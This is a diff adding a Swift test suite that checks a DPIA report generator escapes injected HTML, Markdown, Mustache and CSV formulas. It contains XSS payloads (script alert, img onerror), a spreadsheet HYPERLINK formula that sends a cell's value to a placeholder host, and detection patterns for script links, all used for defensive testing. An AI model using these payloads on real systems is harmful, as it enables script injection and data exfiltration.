@@ -1,0 +1,199 @@
+import DPIARender
+import Foundation
+import Testing
+
+/// Reports, registers and diffs made from specs full of HTML, script, Markdown, template syntax and
+/// spreadsheet formulas run no code in a reader's browser or spreadsheet, and keep their structure.
+@Suite struct ReportSafetyTests {
+    /// Valid corpus specs whose text tries to inject something, and a plain one to compare with.
+    static let specs = ["inject-html-markdown-everywhere.yaml", "inject-markdown-table.yaml", "inject-mustache.yaml",
+                        "inject-csv-formula.yaml", "valid-base.yaml"]
+
+    /// The reports and the register of ``specs``, written once for all tests.
+    static let output: Result<URL, Error> = Result {
+        let workspace = try Workspace("report-safety")
+        for name in specs { try workspace.write("specs/\(name)", String(decoding: try Corpus.data(name), as: UTF8.self)) }
+        let diff = ["diff", "specs/valid-base.yaml", "specs/inject-html-markdown-everywhere.yaml", "--format"]
+        for command in [["report", "specs", "--date", "2025-01-01"], ["register", "specs", "--date", "2025-01-01"],
+                        diff + ["html", "--out", "Output/diff.html"], diff + ["markdown", "--out", "Output/diff.md"]] {
+            let arguments = command.contains("--out") ? command : command + ["--out", "Output"]
+            let result = try BuiltProgram.dpia.run(arguments, in: workspace.url)
+            guard result.status == 0 else { throw Failure(description: "\(command): \(result.errors)") }
+        }
+        return workspace.url.appendingPathComponent("Output")
+    }
+
+    struct Failure: Error, CustomStringConvertible { let description: String }
+
+    static func text(_ relative: String) throws -> String {
+        try String(contentsOf: try output.get().appendingPathComponent(relative), encoding: .utf8)
+    }
+
+    /// The report folders: one per activity id.
+    static let activities = ["injectie", "inject-markdown-table", "inject-mustache", "inject-csv-formula", "hardening-base"]
+
+    // MARK: - HTML
+
+    /// Every element of the HTML, as written: `<a href="...">`.
+    static func tags(_ html: String) -> [Substring] {
+        var tags: [Substring] = []
+        var rest = html[...]
+        while let open = rest.firstIndex(of: "<") {
+            let after = rest.index(after: open)
+            guard after < rest.endIndex, rest[after].isLetter, let close = rest[after...].firstIndex(of: ">") else {
+                rest = rest[after...]
+                continue
+            }
+            tags.append(rest[open...close])
+            rest = rest[rest.index(after: close)...]
+        }
+        return tags
+    }
+
+    static func name(of tag: Substring) -> String {
+        String(tag.dropFirst().prefix { $0.isLetter || $0.isNumber }).lowercased()
+    }
+
+    /// What the templates and cmark write; nothing else may appear.
+    static let allowedElements: Set<String> = [
+        "html", "head", "meta", "title", "style", "body", "header", "nav", "main", "section", "footer", "div", "span",
+        "h1", "h2", "h3", "h4", "p", "br", "hr", "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr",
+        "th", "td", "caption", "a", "strong", "em", "code", "pre", "blockquote", "img", "small", "sup", "abbr",
+    ]
+
+    static let htmlFiles = activities.map { "\($0)/dpia.html" } + ["register/register.html", "diff.html"]
+
+    @Test(arguments: htmlFiles)
+    func htmlHasOnlyOurElementsAndNoScript(_ file: String) throws {
+        let tags = Self.tags(try Self.text(file))
+        let unexpected = Set(tags.map(Self.name)).subtracting(Self.allowedElements)
+        #expect(unexpected.isEmpty, "elements: \(unexpected.sorted())")
+        for tag in tags {
+            #expect(tag.range(of: #"\son[a-z]+\s*="#, options: [.regularExpression, .caseInsensitive]) == nil, "\(tag)")
+            #expect(!tag.lowercased().contains("javascript:") && !tag.lowercased().contains("vbscript:"), "\(tag)")
+        }
+    }
+
+    /// Links and images point inside the report, to the web, or nowhere (cmark's safe mode empties
+    /// `javascript:` and `data:` links).
+    @Test(arguments: htmlFiles)
+    func htmlLinksAreSafe(_ file: String) throws {
+        let html = try Self.text(file)
+        let attributes = html.matches(of: /(?:href|src)="([^"]*)"/).map { String($0.output.1) }
+        for value in attributes {
+            let safe = value.isEmpty || value.hasPrefix("#") || value.hasPrefix("https://") || value.hasPrefix("http://")
+                || value.hasPrefix("mailto:")
+            #expect(safe, "\(file): \(value)")
+        }
+    }
+
+    @Test func injectedTextIsShownAsText() throws {
+        let html = try Self.text("injectie/dpia.html")
+        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;"))
+        #expect(!html.contains("<script") && !html.contains("<iframe") && !html.contains("<img src=x"))
+    }
+
+    // MARK: - Markdown
+
+    static let markdownFiles = activities.map { "\($0)/dpia.md" } + ["register/register.md", "diff.md"]
+
+    /// True when the character before `index` is escaped by an odd number of backslashes.
+    static func isEscaped(_ text: String, _ index: String.Index) -> Bool {
+        var count = 0
+        var position = index
+        while position > text.startIndex {
+            position = text.index(before: position)
+            guard text[position] == "\\" else { break }
+            count += 1
+        }
+        return count % 2 == 1
+    }
+
+    /// No raw HTML (a `<` that starts a tag) and no link to `javascript:`, `data:` or `vbscript:`:
+    /// a Markdown viewer would run or follow them.
+    @Test(arguments: markdownFiles)
+    func markdownHasNoRawHTMLOrScriptLinks(_ file: String) throws {
+        let markdown = try Self.text(file)
+        for index in markdown.indices where markdown[index] == "<" && !Self.isEscaped(markdown, index) {
+            let next = markdown.index(after: index)
+            let opensTag = next < markdown.endIndex && (markdown[next].isLetter || "/!?".contains(markdown[next]))
+            #expect(!opensTag, "\(file): \(markdown[index...].prefix(40))")
+        }
+        for match in markdown.matches(of: /\]\(\s*(javascript|data|vbscript):/.ignoresCase()) {
+            #expect(Self.isEscaped(markdown, match.range.lowerBound), "\(file): \(markdown[match.range.lowerBound...].prefix(40))")
+        }
+    }
+
+    /// A name full of `|` and Markdown stays inside its table cell: every row of a table has as many
+    /// cell separators as its header.
+    @Test func markdownTablesKeepTheirColumns() throws {
+        let lines = try Self.text("inject-markdown-table/dpia.md").split(separator: "\n", omittingEmptySubsequences: false)
+        func separators(_ line: Substring) -> Int {
+            let text = String(line)
+            return text.indices.filter { text[$0] == "|" && !Self.isEscaped(text, $0) }.count
+        }
+        var header: Int?
+        var rows = 0
+        for line in lines {
+            guard line.hasPrefix("|") else { header = nil; continue }
+            if let header {
+                #expect(separators(line) == header, "\(line)")
+                rows += 1
+            } else {
+                header = separators(line)
+            }
+        }
+        #expect(rows > 10)
+        #expect(lines.contains { $0.contains(#"\| kapot \| tabel \|"#) })
+    }
+
+    /// Mustache in a title is printed, not run: the report shows the braces.
+    @Test func templateSyntaxInTextIsText() throws {
+        #expect(try Self.text("inject-mustache/dpia.html")
+            .contains("<h1>{{#activity}}{{{summary}}}{{/activity}} {{&gt; partial}} {{=&lt;% %&gt;=}}</h1>"))
+        #expect(try Self.text("inject-mustache/dpia.md").contains(##"{{\#activity}}{{{summary}}}{{/activity}}"##))
+    }
+
+    // MARK: - CSV
+
+    /// The cells of a semicolon-separated line (RFC 4180 quotes).
+    static func cells(_ line: Substring) -> [String] {
+        var cells: [String] = []
+        var cell = ""
+        var quoted = false
+        var index = line.startIndex
+        while index < line.endIndex {
+            let character = line[index]
+            if quoted {
+                if character == "\"" {
+                    let next = line.index(after: index)
+                    if next < line.endIndex, line[next] == "\"" { cell.append("\""); index = next } else { quoted = false }
+                } else {
+                    cell.append(character)
+                }
+            } else if character == "\"" {
+                quoted = true
+            } else if character == ";" {
+                cells.append(cell)
+                cell = ""
+            } else {
+                cell.append(character)
+            }
+            index = line.index(after: index)
+        }
+        return cells + [cell]
+    }
+
+    /// No cell of the register's CSV starts like a formula: a spreadsheet would run it.
+    @Test func csvCellsNeverStartAFormula() throws {
+        let csv = try Self.text("register/register.csv")
+        let rows = csv.split(separator: "\r\n")
+        #expect(rows.count == Self.specs.count + 1)
+        let cells = rows.flatMap(Self.cells)
+        for cell in cells {
+            #expect(!(cell.unicodeScalars.first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false), "\(cell)")
+        }
+        #expect(cells.contains("'=HYPERLINK(\"https://example.invalid/?\"&A1;\"klik\")"))
+        #expect(cells.contains("'\t=1+1"))
+    }
+}
